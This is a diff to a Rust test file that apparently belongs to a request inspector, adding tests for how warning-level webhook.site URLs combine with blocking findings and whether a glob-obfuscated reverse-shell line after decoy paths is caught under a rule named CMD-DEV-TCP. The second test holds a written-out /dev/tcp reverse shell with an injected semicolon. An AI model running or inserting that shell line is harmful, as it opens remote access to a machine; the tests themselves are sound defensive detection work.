@@ -61,6 +61,31 @@ fn one_attack_is_found_wherever_it_stands() {
     }
 }
 
+/// What only warns is told of wherever it stands, unless the message is blocked anyhow.
+#[test]
+fn warnings_are_enough_where_something_blocks() {
+    let warnings: Vec<_> = (0..1000).map(|at| format!("https://webhook.site/{at}")).collect();
+    let verdict = inspect("profile: balanced", &json!({ "x": &warnings }));
+    assert!(!verdict.is_blocked() && !says_enough(&verdict), "{:?}", verdict.action);
+    assert_eq!(verdict.findings.len() + verdict.omitted as usize, 1000);
+    let both: Vec<_> = attacks(1).into_iter().chain(warnings).collect();
+    let verdict = inspect("profile: balanced", &json!({ "x": both }));
+    assert!(verdict.is_blocked() && says_enough(&verdict) && verdict.omitted < 500, "{:?}", verdict.action);
+}
+
+/// A pattern in a program's place may stand for any program, however many others stand before it.
+#[test]
+fn patterns_for_programs_are_read_wherever_they_stand() {
+    for before in [0, 7, 8, 300] {
+        let decoys = (0..before).map(|at| format!("/opt/a{at}*b x"));
+        let shell = ["; /b?n/b?sh -i >& /dev/tcp/198.51.100.7/4 0>&1".to_owned()];
+        let verdict = inspect("profile: balanced", &json!({ "x": decoys.chain(shell).collect::<Vec<_>>() }));
+        assert!(verdict.is_blocked() && verdict.findings.iter().any(|found| found.rule == "CMD-DEV-TCP"), "{verdict}");
+    }
+    let decoys: Vec<_> = (0..300).map(|at| format!("/opt/a{at}*b x")).collect();
+    assert!(!inspect("profile: balanced", &json!({ "x": decoys, "command": decoys.join("\n") })).is_blocked());
+}
+
 #[test]
 fn what_an_exception_lets_pass_is_not_enough() {
     let all = inspect("profile: balanced", &json!({ "x": attacks(20) }));
